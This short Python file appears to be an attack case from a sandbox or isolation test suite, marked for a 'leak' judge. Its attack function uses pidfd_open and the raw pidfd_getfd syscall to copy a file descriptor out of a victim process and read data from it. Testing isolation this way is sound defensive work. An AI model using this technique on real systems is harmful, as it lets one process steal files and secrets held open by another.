"""Takes a copy of another process's descriptor."""

# judge: leak

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack(ground):
    process = os.pidfd_open(ground["victim"])
    wanted = ctypes.c_long(ground["victim_descriptor"])
    stolen = libc.syscall(438, ctypes.c_long(process), wanted, ctypes.c_long(0))
    if stolen < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return os.pread(stolen, 1000, 0)
